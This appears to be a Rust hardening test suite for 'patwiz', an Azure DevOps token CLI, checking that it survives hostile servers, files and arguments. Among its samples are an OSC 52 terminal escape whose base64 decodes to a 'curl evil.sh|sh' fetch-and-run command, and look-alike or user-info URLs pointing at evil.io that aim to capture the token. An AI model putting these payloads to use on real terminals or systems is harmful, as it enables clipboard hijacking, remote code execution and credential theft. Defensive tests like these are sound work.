//! Attacks that broke earlier versions, each replayed against the real binary: a hostile
//! `Retry-After`, a huge `--deadline`, a core dump of a process holding the token.

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use axum::http::{HeaderValue, StatusCode};
use axum::response::Response;

const TOKEN: &str =
    "oEmvnEN5N1aE6PwZPf1Qh6yYTWmE4lBYOvfZ8UzDzV8fUkkibjL5JQQJ99DZPjN0MEQ7wjJJibaZAZDOUPgH";

fn patwiz(args: &[&str]) -> Command {
    let mut cmd = crate::support::cmd::patwiz();
    cmd.args(args)
        .env("AZURE_DEVOPS_EXT_PAT", TOKEN)
        .env(
            "PATWIZ_CONFIG_DIR",
            std::env::temp_dir().join("patwiz-hardening-none"),
        )
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    cmd
}

/// A server that answers every request with 503 and the given Retry-After, or never answers.
async fn hostile(retry_after: Option<&'static str>) -> std::net::SocketAddr {
    let app = axum::Router::new().fallback(move || async move {
        match retry_after {
            Some(value) => {
                let mut r = Response::new(axum::body::Body::from("busy"));
                *r.status_mut() = StatusCode::SERVICE_UNAVAILABLE;
                r.headers_mut()
                    .insert("retry-after", HeaderValue::from_static(value));
                r
            }
            None => {
                tokio::time::sleep(Duration::from_secs(60)).await;
                Response::new(axum::body::Body::empty())
            }
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    addr
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_retry_after_never_panics_and_never_stalls() {
    for value in ["1e20", "18446744073709551616", "1e308", "NaN", "-5"] {
        let addr = hostile(Some(value)).await;
        let org = format!("http://{addr}/contoso");
        let out = tokio::task::spawn_blocking(move || {
            let mut cmd = patwiz(&[
                "check",
                "--org",
                &org,
                "--scopes",
                "vso.code",
                "--deadline",
                "5",
            ]);
            cmd.stdin(Stdio::null());
            // A hang guard, far beyond the 5 s deadline: only a stall trips it.
            within(cmd, Duration::from_secs(120))
        })
        .await
        .unwrap()
        .unwrap_or_else(|| panic!("{value}: patwiz stalled"));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_ne!(out.status.code(), Some(101), "{value}: panicked: {stderr}");
        assert_eq!(out.status.code(), Some(3), "{value}: {stderr}");
        assert!(!stderr.contains("panicked"), "{value}: {stderr}");
    }
}

#[test]
fn a_huge_deadline_or_timeout_is_a_usage_error_not_a_panic() {
    for args in [
        ["--deadline", "18446744073709551615"],
        ["--timeout", "18446744073709551615"],
        ["--deadline", "0"],
    ] {
        let out = patwiz(&[
            "check",
            "--org",
            "https://dev.azure.com/contoso",
            "--scopes",
            "vso.code",
            args[0],
            args[1],
        ])
        .output()
        .unwrap();
        assert_eq!(out.status.code(), Some(64), "{args:?}: {out:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains("panicked"), "{stderr}");
    }
}

#[cfg(target_os = "linux")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_process_holding_the_token_cannot_dump_core() {
    let addr = hostile(None).await;
    let org = format!("http://{addr}/contoso");
    let mut child = patwiz(&[
        "check",
        "--org",
        &org,
        "--scopes",
        "vso.code",
        "--timeout",
        "30",
    ])
    .spawn()
    .unwrap();
    let pid = child.id();
    tokio::time::sleep(Duration::from_millis(500)).await;
    let limits = std::fs::read_to_string(format!("/proc/{pid}/limits")).unwrap();
    let _ = child.kill();
    let _ = child.wait();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap();
    let fields: Vec<&str> = core.split_whitespace().collect();
    assert_eq!(&fields[4..6], ["0", "0"], "{core}");
}

/// Runs `cmd` and gives up after `limit` (killing it): `None` means it hung.
fn within(mut cmd: Command, limit: Duration) -> Option<std::process::Output> {
    let mut child = cmd.spawn().unwrap();
    let started = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            return Some(child.wait_with_output().unwrap());
        }
        if started.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            return None;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[cfg(unix)]
fn mkfifo(path: &std::path::Path) {
    let made = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(made.success());
}

#[test]
fn a_ca_file_without_a_certificate_is_refused_up_front_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let garbage = dir.path().join("garbage.pem");
    std::fs::write(&garbage, "this is not a certificate\n").unwrap();
    let key = dir.path().join("key.pem");
    std::fs::write(
        &key,
        "-----BEGIN PRIVATE KEY-----\nMIIBVQIBADANBgkqhkiG9w0BAQEFAASCAT8wggE7AgEAAkEA\n-----END PRIVATE KEY-----\n",
    )
    .unwrap();
    for file in [&garbage, &key] {
        let path = file.to_str().unwrap();
        let out = patwiz(&[
            "check",
            "--org",
            "https://dev.azure.com/contoso",
            "--scopes",
            "vso.code",
            "--ca-file",
            path,
        ])
        .output()
        .unwrap();
        assert_eq!(out.status.code(), Some(64), "{out:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(path) && stderr.contains("no certificate"),
            "{stderr}"
        );
        let out = patwiz(&[
            "check",
            "--org",
            "https://dev.azure.com/contoso",
            "--scopes",
            "vso.code",
        ])
        .env("SSL_CERT_FILE", path)
        .output()
        .unwrap();
        assert_eq!(out.status.code(), Some(64), "SSL_CERT_FILE: {out:?}");
    }
}

#[cfg(unix)]
#[test]
fn files_that_are_not_files_never_hang_patwiz() {
    // A FIFO as the settings file, as a profile and as the CA file; /dev/zero as the settings.
    let config = tempfile::tempdir().unwrap();
    mkfifo(&config.path().join("settings.toml"));
    std::fs::create_dir_all(config.path().join("profiles")).unwrap();
    mkfifo(&config.path().join("profiles/evil.toml"));
    let fifo_ca = config.path().join("ca.pem");
    mkfifo(&fifo_ca);
    let runs: Vec<Vec<&str>> = vec![
        vec!["status"],
        vec!["guide"],
        vec![
            "check",
            "--org",
            "https://dev.azure.com/contoso",
            "--scopes",
            "vso.code",
            "--ca-file",
            fifo_ca.to_str().unwrap(),
        ],
    ];
    for args in runs {
        let mut cmd = patwiz(&args);
        cmd.env("PATWIZ_CONFIG_DIR", config.path())
            .env("PATWIZ_SECRET_STORE", "keyutils");
        let out = within(cmd, Duration::from_secs(20))
            .unwrap_or_else(|| panic!("patwiz {args:?} hung on a FIFO"));
        assert_ne!(out.status.code(), Some(101), "{args:?}: {out:?}");
    }
    let zero = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("/dev/zero", zero.path().join("settings.toml")).unwrap();
    let mut cmd = patwiz(&["status"]);
    cmd.env("PATWIZ_CONFIG_DIR", zero.path())
        .env("PATWIZ_SECRET_STORE", "keyutils");
    let out = within(cmd, Duration::from_secs(20)).expect("patwiz status hung on /dev/zero");
    assert_ne!(out.status.code(), Some(101), "{out:?}");
}

#[cfg(target_os = "linux")]
#[test]
fn a_secret_store_that_never_answers_does_not_keep_patwiz_alive() {
    // A D-Bus that accepts connections and never says a word.
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("bus");
    let listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming().flatten() {
            held.push(stream);
        }
    });
    let config = tempfile::tempdir().unwrap();
    let mut cmd = patwiz(&["doctor"]);
    cmd.env("PATWIZ_CONFIG_DIR", config.path())
        .env("PATWIZ_SECRET_STORE", "secret-service")
        .env(
            "DBUS_SESSION_BUS_ADDRESS",
            format!("unix:path={}", socket.display()),
        );
    // A hang guard only: that the store call was given up is said by the output.
    let out = within(cmd, Duration::from_secs(120)).expect("patwiz doctor never exited");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("did not answer within 5 s"),
        "says the store did not answer in time: {text}"
    );
}

/// A server whose every name and message carries terminal control sequences.
async fn injecting_server() -> std::net::SocketAddr {
    use axum::routing::get;
    const OSC52: &str = "\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007";
    const TITLE: &str = "\\u001b]0;owned\\u0007\\u009b2J";
    let connection = format!(
        r#"{{"authenticatedUser":{{"id":"22157d54-1821-6536-a446-928b06348385","providerDisplayName":"Eve{OSC52}","properties":{{"Account":{{"$type":"System.String","$value":"eve{TITLE}@x.com"}}}}}},"deploymentType":"hosted"}}"#
    );
    let projects = format!(r#"{{"count":1,"value":[{{"id":"1","name":"Proj{OSC52}"}}]}}"#);
    let refusal =
        format!(r#"{{"$id":"1","message":"TF401027: denied {TITLE}{OSC52}","typeKey":"X"}}"#);
    let app = axum::Router::new()
        .route(
            "/{org}/_apis/resourceAreas",
            get(|| async {
                (
                    [("content-type", "application/json")],
                    r#"{"count":0,"value":[]}"#,
                )
            }),
        )
        .route(
            "/{org}/_apis/connectionData",
            get(move || async move { ([("content-type", "application/json")], connection) }),
        )
        .route(
            "/{org}/_apis/projects",
            get(move || async move { ([("content-type", "application/json")], projects) }),
        )
        .fallback(move || async move {
            (
                StatusCode::FORBIDDEN,
                [
                    ("content-type", "application/json"),
                    ("x-vss-userdata", "1:eve"),
                ],
                refusal,
            )
        });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    addr
}

fn assert_no_controls(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for c in text.chars() {
        assert!(
            c == '\n' || !(c.is_control() || ('\u{80}'..='\u{9f}').contains(&c)),
            "{what} carries a control character {:?}:\n{text}",
            c
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_from_a_server_or_a_file_reaches_the_terminal_as_a_control_sequence() {
    let addr = injecting_server().await;
    let org = format!("http://{addr}/contoso");
    let out = tokio::task::spawn_blocking(move || {
        patwiz(&[
            "check",
            "--org",
            &org,
            "--scopes",
            "vso.work_write,vso.code",
            "--deadline",
            "10",
        ])
        .output()
        .unwrap()
    })
    .await
    .unwrap();
    assert_no_controls("check's output", &out.stdout);
    assert_no_controls("check's errors", &out.stderr);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Eve") && text.contains("TF401027"), "{text}");

    // A profile file with escape sequences, printed by `patwiz guide`.
    let config = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(config.path().join("profiles")).unwrap();
    let builtin = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/crates/patwiz-domain/assets/profiles/nango.toml"
    ))
    .unwrap();
    let evil = builtin
        .replacen("name = \"nango\"", "name = \"evil\"", 1)
        .replace("Nango", "Nango\\u001b]52;c;ZXZpbA==\\u0007");
    std::fs::write(config.path().join("profiles/evil.toml"), evil).unwrap();
    let out = patwiz(&["guide", "--profile", "evil"])
        .env("PATWIZ_CONFIG_DIR", config.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_no_controls("guide", &out.stdout);

    // A control sequence typed (or pasted) into a flag.
    let out = patwiz(&[
        "check",
        "--org",
        "contoso\u{1b}]0;x\u{7}",
        "--scopes",
        "vso.code",
    ])
    .output()
    .unwrap();
    assert_eq!(out.status.code(), Some(64));
    assert_no_controls("the usage error", &out.stderr);
}

#[test]
fn a_token_typed_into_the_wrong_flag_is_never_repeated() {
    let legacy = "zcybhbtdd2gkj4iur66nam5wa5yydx5s6kcq46oya7vngcngsuuq";
    for args in [
        vec!["check", "--org", TOKEN, "--scopes", "vso.code"],
        vec!["check", "--org", legacy, "--scopes", "vso.code"],
        vec![
            "check",
            "--org",
            "contoso",
            "--scopes",
            "vso.code",
            "--deadline",
            TOKEN,
        ],
        vec!["check", "--org", "contoso", "--scopes", TOKEN],
        vec![
            "login",
            "--org",
            "contoso",
            "--profile",
            "git-zen",
            "--expires",
            TOKEN,
        ],
        vec!["login", "--org", "contoso", "--profile", legacy],
    ] {
        let out = patwiz(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(64), "{args:?}: {out:?}");
        for stream in [&out.stdout, &out.stderr] {
            let text = String::from_utf8_lossy(stream);
            for secret in [TOKEN, legacy] {
                for part in secret.as_bytes().chunks(16) {
                    let part = std::str::from_utf8(part).unwrap();
                    assert!(
                        part.len() < 16 || !text.contains(part),
                        "{args:?} echoed {part}: {text}"
                    );
                }
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plain_http_request_never_goes_through_a_proxy() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    // A "proxy" that only counts who connects to it (and answers nothing useful).
    let proxy = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy_addr = proxy.local_addr().unwrap();
    let seen = Arc::new(AtomicUsize::new(0));
    let counter = seen.clone();
    tokio::spawn(async move {
        while let Ok((socket, _)) = proxy.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            drop(socket);
        }
    });
    let emu = crate::support::clock::start_demo().await.unwrap();
    let token = emu.token("git-zen").unwrap();
    let org = emu.org_url();
    let proxy_url = format!("http://{proxy_addr}");
    let out = tokio::task::spawn_blocking(move || {
        let mut cmd = patwiz(&["check", "--org", &org, "--profile", "git-zen"]);
        cmd.env("AZURE_DEVOPS_EXT_PAT", &token);
        for var in [
            "HTTP_PROXY",
            "http_proxy",
            "ALL_PROXY",
            "all_proxy",
            "HTTPS_PROXY",
        ] {
            cmd.env(var, &proxy_url);
        }
        cmd.env_remove("NO_PROXY").env_remove("no_proxy");
        cmd.output().unwrap()
    })
    .await
    .unwrap();
    assert_eq!(
        seen.load(Ordering::SeqCst),
        0,
        "the proxy saw a plain-http request"
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

#[test]
fn a_host_hidden_in_the_user_info_or_a_look_alike_host_gets_no_token() {
    for hostile in [
        "https://dev.azure.com@evil.io/contoso",
        "contoso@dev.azure.com@evil.io",
        "https://dev.azure.com:@evil.io/contoso",
    ] {
        let out = patwiz(&["check", "--org", hostile, "--scopes", "vso.code"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(64), "{hostile}: {out:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains("evil.io") && stderr.contains('@'),
            "{stderr}"
        );
    }
    for lookalike in [
        "https://dev.azure.corn/contoso",
        "https://dev.azure.com.evil.io/contoso",
        "https://dev.azure.com./contoso",
    ] {
        for command in [
            vec!["check", "--org", lookalike, "--scopes", "vso.code"],
            vec!["login", "--org", lookalike, "--profile", "git-zen"],
        ] {
            let out = patwiz(&command).output().unwrap();
            assert_eq!(out.status.code(), Some(64), "{command:?}: {out:?}");
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(stderr.contains("--server"), "{stderr}");
        }
        // With --server the user takes responsibility: it is tried (and, here, not reached).
        let out = patwiz(&[
            "check",
            "--org",
            lookalike,
            "--scopes",
            "vso.code",
            "--server",
            "--deadline",
            "3",
        ])
        .output()
        .unwrap();
        assert_ne!(out.status.code(), Some(64), "{lookalike}: {out:?}");
    }
}

#[cfg(unix)]
#[test]
fn the_demo_keeps_its_settings_in_a_fresh_private_directory() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let mut child = crate::support::cmd::patwiz()
        .args(["demo", "--plain"])
        .env("TMPDIR", tmp.path())
        .env_remove("PATWIZ_CONFIG_DIR")
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    // While the demo waits at its first prompt, look at what it made.
    let started = Instant::now();
    let made = loop {
        let found: Vec<_> = std::fs::read_dir(tmp.path())
            .unwrap()
            .filter_map(|e| e.ok())
            .filter(|e| e.file_name().to_string_lossy().starts_with("patwiz-demo-"))
            .collect();
        if let Some(entry) = found.into_iter().next() {
            break entry;
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "no scratch directory appeared"
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    let name = made.file_name().to_string_lossy().to_string();
    let mode = made.metadata().unwrap().permissions().mode() & 0o777;
    drop(child.stdin.take());
    let _ = child.kill();
    let _ = child.wait();
    assert_ne!(name, format!("patwiz-demo-{pid}"), "a predictable name");
    assert_eq!(mode, 0o700, "{name} is not private");
}
